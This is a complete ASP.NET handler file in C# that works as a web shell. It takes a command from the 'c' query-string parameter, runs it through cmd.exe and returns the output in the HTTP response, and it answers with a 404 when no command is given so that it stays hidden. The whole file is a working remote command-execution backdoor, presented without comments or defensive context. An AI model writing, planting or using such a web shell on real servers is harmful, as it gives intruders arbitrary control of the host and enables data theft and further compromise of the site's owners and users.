<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Diagnostics;

public class Handler : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string c = context.Request.QueryString["c"];
        if (string.IsNullOrEmpty(c)) { context.Response.StatusCode = 404; return; }
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + c;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.StartInfo.RedirectStandardError = true;
        p.Start();
        context.Response.ContentType = "text/plain";
        context.Response.Write(p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd());
    }

    public bool IsReusable { get { return false; } }
}
